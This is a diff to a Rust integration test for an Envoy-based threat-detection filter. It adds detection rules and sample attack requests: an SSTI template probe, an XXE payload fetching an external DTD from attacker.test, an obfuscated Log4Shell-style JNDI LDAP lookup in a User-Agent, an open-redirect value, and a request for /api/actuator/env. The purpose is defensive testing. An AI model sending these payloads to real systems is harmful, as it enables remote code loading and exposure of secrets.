@@ -21,6 +21,9 @@ fn threat_config_holding(action: &str, hold_headers: bool) -> String {
             "threat_rules": [
               {{"id": "SQLInjection", "action": "{action}"}}, {{"id": "XSS", "action": "{action}"}},
               {{"id": "SSRF", "action": "{action}"}}, {{"id": "WeakAuthentication", "action": "{action}"}},
+              {{"id": "SSTI", "action": "{action}"}}, {{"id": "XXE", "action": "{action}"}},
+              {{"id": "JNDIInjection", "action": "{action}"}}, {{"id": "OpenRedirect", "action": "{action}"}},
+              {{"id": "SensitivePathProbe", "action": "{action}"}},
               {{"id": "ParamEnumeration", "distinct": 5, "window_secs": 60, "action": "{action}", "block_secs": 60}}],
             "webhook": {{"url": "http://webhook.test/akto", "hmac_secret": "{SECRET}", "mode": "instant"}}}}"#
     )
@@ -71,6 +74,47 @@ fn attacks() -> Vec<Attack> {
             method: "GET",
             path: "/api/orders",
             headers: vec![("authorization", ALG_NONE)],
+            body: b"",
+        },
+        Attack {
+            actor: "198.51.100.11",
+            id: "SSTI",
+            method: "GET",
+            path: "/api/orders?name=%7B%7Bconfig.__class__.__init__.__globals__%7D%7D",
+            headers: vec![],
+            body: b"",
+        },
+        Attack {
+            actor: "198.51.100.12",
+            id: "XXE",
+            method: "POST",
+            path: "/api/comments",
+            headers: vec![("content-type", "application/xml")],
+            body: br#"<?xml version="1.0"?><!DOCTYPE c SYSTEM "http://attacker.test/x.dtd"><c>1</c>"#,
+        },
+        Attack {
+            actor: "198.51.100.13",
+            id: "JNDIInjection",
+            method: "GET",
+            path: "/api/orders",
+            // In the User-Agent, where SSRF does not look (it reads fetch targets).
+            headers: vec![("user-agent", "${${lower:j}ndi:ldap://attacker.test/a}")],
+            body: b"",
+        },
+        Attack {
+            actor: "198.51.100.14",
+            id: "OpenRedirect",
+            method: "GET",
+            path: "/api/orders?next=%2F%5Cattacker.test%2F",
+            headers: vec![],
+            body: b"",
+        },
+        Attack {
+            actor: "198.51.100.15",
+            id: "SensitivePathProbe",
+            method: "GET",
+            path: "/api/actuator/env",
+            headers: vec![],
             body: b"",
         },
     ]
@@ -129,7 +173,7 @@ fn each_attack_raises_exactly_one_event_of_its_rule_and_benign_requests_pass() {
     let events = wait_for(WAIT, || Some(rx.events()).filter(|e| e.len() >= expected))
         .unwrap_or_else(|| panic!("{expected} events, got {:?}", rx.events()));
     wait_for(WAIT, || {
-        (envoy.metric("threat_suppressed") == 4).then_some(())
+        (envoy.metric("threat_suppressed") == attacks.len() as u64).then_some(())
     })
     .unwrap_or_else(|| panic!("suppressed: {}", envoy.metric("threat_suppressed")));
     assert_eq!(rx.events().len(), expected, "{:?}", rx.events());
@@ -153,7 +197,10 @@ fn each_attack_raises_exactly_one_event_of_its_rule_and_benign_requests_pass() {
         format!("{prefix}actorwatch_threat_rule_matches_total{{rule=\"xss\"}} 2"),
         format!("{prefix}actorwatch_threat_rule_events_total{{rule=\"xss\"}} 1"),
         // Envoy writes `{}` after a series without labels.
-        format!("{prefix}actorwatch_threat_suppressed_total{{}} 4"),
+        format!(
+            "{prefix}actorwatch_threat_suppressed_total{{}} {}",
+            attacks.len()
+        ),
         format!("# TYPE {prefix}actorwatch_events_queued gauge"),
     ] {
         assert!(
